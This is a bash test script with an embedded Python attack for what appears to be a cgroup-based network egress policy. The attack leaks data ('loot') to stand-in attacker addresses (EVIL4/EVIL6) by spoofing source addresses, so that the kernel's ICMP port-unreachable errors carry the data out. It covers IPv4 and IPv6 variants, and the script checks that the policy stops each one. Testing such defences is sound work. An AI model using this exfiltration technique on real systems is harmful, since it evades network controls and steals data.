#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: sends UDP to a closed port of its own, from the address of a host outside, so that the kernel's ICMP error takes the data there
# stopped-by: connect4, sendmsg4, sendmsg6, egress
# reason: destination
# kernels: all
#
# The error comes from the kernel's own socket, which belongs to no cgroup. IPv6 needs no privilege for
# the foreign source (IPV6_FREEBIND), IPv4 needs CAP_NET_RAW (IP_TRANSPARENT).
. "$(dirname "$0")/lib.sh"
arena udp/53

attack_by <<'PYTHON'
from attacker import *

IPV6_FREEBIND, IP_TRANSPARENT = 78, 19
CLOSED = 9000 # a service of the policy, which nobody offers here

def spoofing6():
    sock = udp(OWN6)
    sock.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
    return sock

def source6(address):
    return [(socket.IPPROTO_IPV6, socket.IPV6_PKTINFO,
             socket.inet_pton(socket.AF_INET6, address) + bytes(4))]

def spoofing4():
    sock = udp(OWN4)
    sock.setsockopt(socket.SOL_IP, IP_TRANSPARENT, 1)
    sock.bind((EVIL4, 0))
    return sock

older4, older6 = spoofing4(), spoofing6()
older4.connect((OWN4, CLOSED))
older6.connect((OWN6, CLOSED))
ready()

with attempt("older, IPv4"):
    older4.send(loot("older4"))
with attempt("older, IPv6"):
    older6.sendmsg([loot("older6")], source6(EVIL6))
with attempt("connected, IPv6, source by control message"):
    sock = spoofing6()
    sock.connect((OWN6, CLOSED))
    sock.sendmsg([loot("control")], source6(EVIL6))
with attempt("bound, IPv6"):
    sock = spoofing6()
    sock.bind((EVIL6, 0))
    sock.sendto(loot("bound6"), (OWN6, CLOSED))
with attempt("bound, IPv6, no longer asking for it"):
    sock = spoofing6()
    sock.bind((EVIL6, 0))
    sock.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 0)
    sock.sendto(loot("loopback6"), ("::1", CLOSED))
with attempt("IPv6, connected to a destination of the policy"):
    sock = spoofing6()
    sock.connect((GOOD6, CLOSED))
    sock.sendmsg([loot("elsewhere6")], source6(EVIL6), 0, ("::1", CLOSED))
with attempt("bound, IPv4, connected"):
    sock = spoofing4()
    sock.connect((OWN4, CLOSED))
    sock.send(loot("connected4"))
with attempt("bound, IPv4"):
    spoofing4().sendto(loot("bound4"), (OWN4, CLOSED))
PYTHON
client sysctl -qw net.ipv4.icmp_ratelimit=0 net.ipv6.icmp.ratelimit=0 # as fast as the test
works_once_open stolen:older4 stolen:older6 stolen:control stolen:bound6 stolen:loopback6 stolen:elsewhere6 \
	stolen:connected4 stolen:bound4
stopped_once_open gate
recorded connect4 destination
recorded sendmsg4 destination
recorded sendmsg6 destination
recorded 'egress|sock_destroy' destination
